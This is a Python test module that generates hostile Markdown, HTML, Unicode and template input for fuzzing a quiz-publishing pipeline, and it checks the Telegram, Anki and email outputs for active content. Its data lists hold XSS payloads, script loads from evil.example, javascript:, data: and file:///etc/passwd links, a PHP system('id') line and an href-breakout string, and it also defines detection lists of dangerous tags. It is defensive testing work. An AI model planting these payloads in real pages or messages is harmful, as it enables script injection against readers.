"""Hostile and weird content for the hardening tests: hypothesis strategies and output checks.

The strategies build what a careless or malicious contributor could put into a pull request:
unbalanced Markdown markers, unclosed fences, raw HTML that tries to run code (``<script>``,
``on*=`` handlers, ``javascript:``/``data:`` URLs, entity-obfuscated schemes, stray closing
tags, ``<svg onload>``), Jinja-looking text, bidi and zero-width controls, every kind of emoji,
NUL and other control characters, CRLF line ends and very long words.

The checks read each output with its real reader (TDLib, Anki's backend, the email parser,
``html.parser``) and say what is wrong, so a failing example shows the exact problem.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections import Counter
from collections.abc import Mapping
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml
from hypothesis import strategies as st

#: Text that looks like a template in every engine the pipeline (or a mail service) uses; it
#: must arrive literally in every output.
JINJA = "{{ x }} {% raw %} {# c #} {{ UnsubscribeURL }}"
JINJA_PARTS = ("{{ x }}", "{% raw %}", "{# c #}")

EMOJI = (
    "🇷🇺",  # flag: two regional indicators (4 UTF-16 units)
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",  # subdivision flag: tag characters
    "🏳️‍🌈",  # ZWJ sequence with a variation selector
    "👨‍👩‍👧‍👦",  # ZWJ family (11 UTF-16 units)
    "👩🏽‍💻",  # skin tone inside a ZWJ sequence
    "👍🏿",  # skin tone modifier
    "🏽",  # a lone modifier
    "🇦",  # a lone regional indicator
    "1️⃣",  # keycaps: digit, '#' and '*' (a Markdown marker!)
    "#️⃣",
    "*️⃣",
    "☺️",  # text-default symbol with VS16
    "©︎",  # VS15
    "🧑‍🤝‍🧑",
    "😀",
)
CONTROLS = (
    "\u202e",  # RIGHT-TO-LEFT OVERRIDE
    "\u2066",  # LEFT-TO-RIGHT ISOLATE
    "\u2069",
    "\u200f",
    "\u200b",  # ZERO WIDTH SPACE
    "\u200d",  # ZERO WIDTH JOINER
    "\ufeff",  # BOM / ZWNBSP
    "\u2028",  # LINE SEPARATOR
    "\u00ad",  # soft hyphen
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x7f",
    "\x85",
    "\x9b",
    "\r",
    "\t",
    "\ufffd",
    "\U000e0041",  # TAG LATIN CAPITAL LETTER A
)
RAW_HTML = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script>",  # unclosed: everything after it must not become script
    "</script>",
    "<img src=https://x.example/x.png onerror=alert(1)>",
    '<img src="https://x.example/x.png" onerror="alert(1)" alt="a">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">js</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a>',
    '<a href=" JaVaScRiPt:alert(1)">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="file:///etc/passwd" alt="f">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=p><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<b onclick="alert(1)">bold</b>',
    '<div style="position:fixed;top:0">fixed</div>',
    '<p style="background:url(javascript:alert(1))">bg</p>',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- comment --><!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "</div></p></li></ul></table></b></code></pre></blockquote>",
    "<div><b><i>unclosed",
    "<table><tr><td>cell",
    "<x-custom onclick=alert(1)>custom</x-custom>",
    '<a href="https://example.org/" target="_blank" onmouseover="alert(1)">ok</a>',
    "<br><hr><p>para</p>",
    "<tg-spoiler>spoiler</tg-spoiler>",
    '<span class="tg-spoiler">sp</span>',
    "<u>u</u><s>s</s><ins>i</ins><del>d</del><sub>1</sub><sup>2</sup><kbd>k</kbd>",
)
MARKDOWN_BITS = (
    "*",
    "**",
    "***",
    "_",
    "__",
    "`",
    "``",
    "```",
    "~~",
    "||",
    "\\",
    "[",
    "]",
    "](",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](https://example.org/a_b_(c)?d=1&e=<2>)",
    "[x](vbscript:x)",
    "[x][r]",
    "<javascript:alert(1)>",
    "<https://example.org/>",
    "<mailto:a@example.org>",
    "![img](https://example.org/i.png 'title \" onerror=alert(1)')",
    "$",
    "$$",
    "$x_1 * y_2$",
    "$<script>$",
    "$\\href{javascript:alert(1)}{x}$",
    "&",
    "&amp;",
    "&lt;script&gt;",
    "&#0;",
    "&#x110000;",
    "&#xD800;",
    "&nbsp;",
    "&bogus;",
    "&#x6A;avascript:",
    "<",
    ">",
    '"',
    "'",
    "#",
    "@user",
    "#hashtag",
    "/start",
    "https://example.org/__init__",
    "__init__",
    "a_b_c",
    "2*3*4",
)
WORDS = ("слово", "word", "x", "Ω", "中文", "עברית", "العربية", "e\u0301", "ﷺ")


def _join_with(sep: st.SearchStrategy[str]) -> Any:
    def join(parts: list[str], seps: list[str]) -> str:
        out = []
        for i, part in enumerate(parts):
            if i:
                out.append(seps[i % len(seps)])
            out.append(part)
        return "".join(out)

    return join


#: What ends a line for Python (and so for email headers): one-line values must not hold it.
_LINE_BREAKS = r"[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]"
#: A character from anywhere in Unicode except surrogates (YAML cannot carry them).
ANY_CHAR = st.characters(exclude_categories=["Cs"])
ATOM = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(EMOJI),
    st.sampled_from(CONTROLS),
    st.sampled_from(RAW_HTML),
    st.sampled_from(MARKDOWN_BITS),
    st.just(JINJA),
    st.text(ANY_CHAR, min_size=1, max_size=6),
)
#: A very long word now and then: no break opportunity for Telegram's splitter or email lines.
LONG_WORD = st.sampled_from(("x" * 300, "ы" * 1200, "👍" * 700, "a_" * 400))

SEPARATORS = st.sampled_from((" ", "", " ", "\n", "\r\n", "\t"))


@st.composite
def inline_text(draw: st.DrawFn, max_atoms: int = 8, newlines: bool = True) -> str:
    """A run of hostile atoms; without ``newlines`` it stays on one line."""
    atoms = draw(st.lists(ATOM, min_size=1, max_size=max_atoms))
    if draw(st.integers(0, 9)) == 0:
        atoms.insert(draw(st.integers(0, len(atoms))), draw(LONG_WORD))
    seps = draw(st.lists(SEPARATORS, min_size=1, max_size=4))
    text = _join_with(SEPARATORS)(atoms, seps)
    if not newlines:
        text = re.sub(_LINE_BREAKS, " ", text)
    return str(text)


@st.composite
def block(draw: st.DrawFn) -> str:
    """One Markdown block built around hostile inline text."""
    text = draw(inline_text())
    line = draw(inline_text(newlines=False))
    kind = draw(st.integers(0, 15))
    info = draw(st.sampled_from(("", "python", "<script>", "js onload=alert(1)", "```", "~~~")))
    fence = draw(st.sampled_from(("```", "~~~", "````")))
    if kind == 0:
        return f"# {line}"
    if kind == 1:
        return f"{line}\n===="
    if kind == 2:
        return "\n".join(f"- {part}" for part in text.split("\n"))
    if kind == 3:
        return f"1. {line}\n   - {line}\n        * {line}"
    if kind == 4:
        return "\n".join(f"> {part}" for part in text.split("\n")) + f"\n> > {line}"
    if kind == 5:  # a closed fence
        return f"{fence}{info}\n{text}\n{fence}"
    if kind == 6:  # an unclosed fence runs to the end of the field
        return f"{fence}{info}\n{text}"
    if kind == 7:
        return "\n".join("    " + part for part in text.split("\n"))
    if kind == 8:
        return f"| {line} | b |\n|---|:-:|\n| {line} | <script>alert(1)</script> |"
    if kind == 9:
        return f"[r]: javascript:alert(1)\n\n[{line}][r] [x][missing]"
    if kind == 10:
        return f"<div>\n{text}\n</div>"
    if kind == 11:
        return f"$$\n{line}\n$$"
    if kind == 12:
        return "---"
    return text


@st.composite
def markdown_field(draw: st.DrawFn, max_blocks: int = 4) -> str:
    """A whole Markdown answer: hostile blocks separated by blank lines (LF or CRLF)."""
    blocks = draw(st.lists(block(), min_size=1, max_size=max_blocks))
    gap = draw(st.sampled_from(("\n\n", "\r\n\r\n", "\n \n")))
    return gap.join(blocks)


def _has_text(value: str) -> bool:
    return bool(value.strip())


#: Question text: inline Markdown that may still hold anything.
QUESTION = inline_text(max_atoms=6).filter(_has_text)
ANSWER = markdown_field().filter(_has_text)
#: Header: at most 32 characters, no line breaks (the validator's limits).
HEADER = st.one_of(
    st.none(),
    st.lists(st.one_of(st.sampled_from(EMOJI), st.sampled_from(CONTROLS[:9]), ATOM), max_size=3)
    .map("".join)
    .map(lambda s: re.sub(_LINE_BREAKS, " ", s)[:32])
    .filter(_has_text),
)
TAGS = st.lists(st.from_regex(r"\A[a-z0-9]{1,8}(-[a-z0-9]{1,4})?\Z"), max_size=3, unique=True)
SHORT = inline_text(max_atoms=3, newlines=False).map(lambda s: s[:90]).filter(_has_text)


@st.composite
def quiz(draw: st.DrawFn) -> dict[str, Any] | None:
    """A quiz within the validator's limits (Telegram's own limits may still refuse it)."""
    if draw(st.booleans()):
        return None
    options = draw(st.lists(SHORT, min_size=2, max_size=4, unique=True))
    out: dict[str, Any] = {"options": options, "correct": draw(st.integers(1, len(options)))}
    if draw(st.booleans()):
        out["question"] = draw(SHORT)
    if draw(st.booleans()):
        out["explanation"] = draw(SHORT)
    return out


@st.composite
def question(draw: st.DrawFn, index: int) -> dict[str, Any]:
    """One hostile question. Its question text and answer start with :data:`JINJA` in a
    paragraph of its own, so the literal text must arrive in every output."""
    out: dict[str, Any] = {
        "id": f"q-{index}",
        "question": f"{JINJA} {draw(QUESTION)}",
        "answer": f"{JINJA}\n\n{draw(ANSWER)}",
        "grades": draw(
            st.lists(st.sampled_from(("junior", "middle", "senior")), min_size=1, unique=True)
        ),
        "tags": draw(TAGS),
    }
    header = draw(HEADER)
    if header is not None:
        out["header"] = header
    poll = draw(quiz())
    if poll is not None:
        out["quiz"] = poll
    return out


@st.composite
def bank(draw: st.DrawFn, max_questions: int = 3) -> list[dict[str, Any]]:
    """A few hostile questions."""
    n = draw(st.integers(1, max_questions))
    return [draw(question(i)) for i in range(n)]


SETTINGS: dict[str, Any] = {
    "channel": {"name": "Канал <script>alert(1)</script> {{ x }}", "url": "https://t.me/chan"},
    "deck": {"title": "Колода <b>{{ x }}</b>", "slug": "hostile"},
    "schedule": {"timezone": "Europe/Moscow", "start": "2026-12-01"},
    "newsletter": {
        "title": "Дайджест <script>alert(1)</script> {{ x }}",
        "from": "Дайджест <digest@example.org>",
        "base_url": "https://example.org/media/",
        # Matches the setting's pattern (no spaces) yet tries to break out of the href.
        "unsubscribe_url": 'https://example.org/unsub?u=1&x="><script>alert(1)</script>',
    },
}


#: Harmless settings, to measure what the trusted templates write on their own.
CLEAN_SETTINGS: dict[str, Any] = {"schedule": {"start": "2026-12-01"}}


def write_bank(
    folder: Path,
    questions: list[dict[str, Any]],
    *,
    crlf: bool = False,
    settings: dict[str, Any] | None = None,
) -> Path:
    """``folder/content/questions.yaml`` holding ``questions`` (and hostile ``SETTINGS``).

    PyYAML's emitter escapes what YAML cannot carry raw (NUL, C1 controls) in double quotes,
    as an editor would have to.
    """
    content = folder / "content"
    content.mkdir(parents=True, exist_ok=True)
    text = yaml.safe_dump(
        {**(SETTINGS if settings is None else settings), "questions": questions},
        allow_unicode=True,
        sort_keys=False,
        width=100,
    )
    if crlf:
        text = text.replace("\n", "\r\n")
    path = content / "questions.yaml"
    path.write_bytes(text.encode("utf-8"))
    return path


# --- checks: what "nothing active" means ---------------------------------------------------------

#: Elements that run code, load other documents, or restyle the page: never in content output.
ACTIVE_TAGS = frozenset(
    {
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "base",
        "link",
        "meta",
        "form",
        "input",
        "textarea",
        "select",
        "svg",
        "math",
        "template",
        "noscript",
        "audio",
        "video",
        "source",
        "portal",
        "x-custom",
    }
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "poster", "cite", "data", "background", "xlink:href"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
#: Our own writers put only alignment into ``style`` (Markdown tables), or the template's CSS
#: (inlined into the digest): nothing that loads or runs.
_BAD_STYLE = re.compile(
    r"url\s*\(|expression|javascript|behavior|@import|position\s*:\s*fixed", re.I
)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.I)


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: controls and whitespace removed, lower case."""
    squeezed = re.sub(r"[\x00-\x20\x7f]", "", value)
    m = _SCHEME.match(squeezed)
    return m.group(1).lower() if m else None


class HtmlScan(HTMLParser):
    """Every start tag with its (decoded) attributes, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def scan_html(source: str) -> HtmlScan:
    scan = HtmlScan()
    scan.feed(source)
    scan.close()
    return scan


#: ``http-equiv`` values a trusted template may use (nothing that redirects or sets cookies).
_HARMLESS_EQUIV = frozenset({"x-ua-compatible", "content-type"})


def active_parts(source: str, template: Mapping[str, int] | None = None) -> list[str]:
    """What in ``source`` could act in a reader's app (empty list: nothing).

    ``template`` counts the active elements the trusted template itself writes (the digest's
    ``<style>``, the desk's ``<script>``): exactly that many may appear, no more.
    """
    allowed = Counter(template or {})
    seen: Counter[str] = Counter()
    found: list[str] = []
    for tag, attrs in scan_html(source).tags:
        if tag in ACTIVE_TAGS:
            seen[tag] += 1
            if seen[tag] > allowed[tag]:
                found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...>")
            elif name == "http-equiv" and value.lower() not in _HARMLESS_EQUIV:
                found.append(f"<{tag} http-equiv={value!r}>")
            elif name in ("srcset", "formaction", "srcdoc"):
                found.append(f"<{tag} {name}=...>")
            elif name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and _BAD_STYLE.search(value):
                found.append(f"<{tag} style={value!r}>")
    return found


def visible_text(source: str) -> str:
    return "".join(scan_html(source).text)


# --- per-output checks ---------------------------------------------------------------------------


def manifest_problems(dist: Path) -> list[str]:
    """``dist/`` against its manifest: every listed file with its sha256, nothing unlisted."""
    import hashlib

    problems: list[str] = []
    manifest = json.loads((dist / "manifest.json").read_text(encoding="utf-8"))
    listed = {e["path"]: e["sha256"] for e in manifest["outputs"]}
    present = {p.relative_to(dist).as_posix() for p in dist.rglob("*") if p.is_file()} - {
        "manifest.json"
    }
    for path in sorted(set(listed) - present):
        problems.append(f"listed but missing: {path}")
    for path in sorted(present - set(listed)):
        problems.append(f"present but not listed: {path}")
    for path in sorted(set(listed) & present):
        digest = hashlib.sha256((dist / path).read_bytes()).hexdigest()
        if digest != listed[path]:
            problems.append(f"sha256 differs: {path}")
    return problems


def parse_eml(data: bytes) -> EmailMessage:
    message = BytesParser(policy=policy.default).parsebytes(data)
    assert isinstance(message, EmailMessage)
    return message


def eml_parts(message: EmailMessage) -> tuple[str, str]:
    """(text/plain, text/html) of a digest message, decoded; both must be present."""
    text = message.get_body(preferencelist=("plain",))
    html_part = message.get_body(preferencelist=("html",))
    assert text is not None and html_part is not None, "the digest lacks a text or html part"
    return str(text.get_content()), str(html_part.get_content())


def eml_problems(data: bytes, template: Mapping[str, int]) -> list[str]:
    """A digest .eml as a mail client reads it: defects, headers, parts, nothing active."""
    message = parse_eml(data)
    problems = [f"MIME defect: {d!r}" for d in message.defects]
    for part in message.walk():
        problems += [f"MIME defect in {part.get_content_type()}: {d!r}" for d in part.defects]
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        value = message.get(name)
        if value is not None and re.search(r"[\r\n]", str(value)):
            problems.append(f"header {name} holds a line break")
    if message.get_content_type() != "multipart/alternative":
        problems.append(f"top-level type {message.get_content_type()}")
    _text, html_source = eml_parts(message)
    problems += [f"eml html: {p}" for p in active_parts(html_source, template)]
    return problems


def template_tags(source: str) -> dict[str, int]:
    """How many of each active element a trusted template writes (measured on a clean build)."""
    return dict(Counter(tag for tag, _ in scan_html(source).tags if tag in ACTIVE_TAGS))


def output_bytes(dist: Path) -> bytes:
    """Every output file's bytes, with the members of zip files (the deck) unpacked."""
    chunks = []
    for path in sorted(p for p in dist.rglob("*") if p.is_file()):
        chunks.append(path.read_bytes())
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as archive:
                chunks += [archive.read(name) for name in archive.namelist()]
    return b"\n".join(chunks)
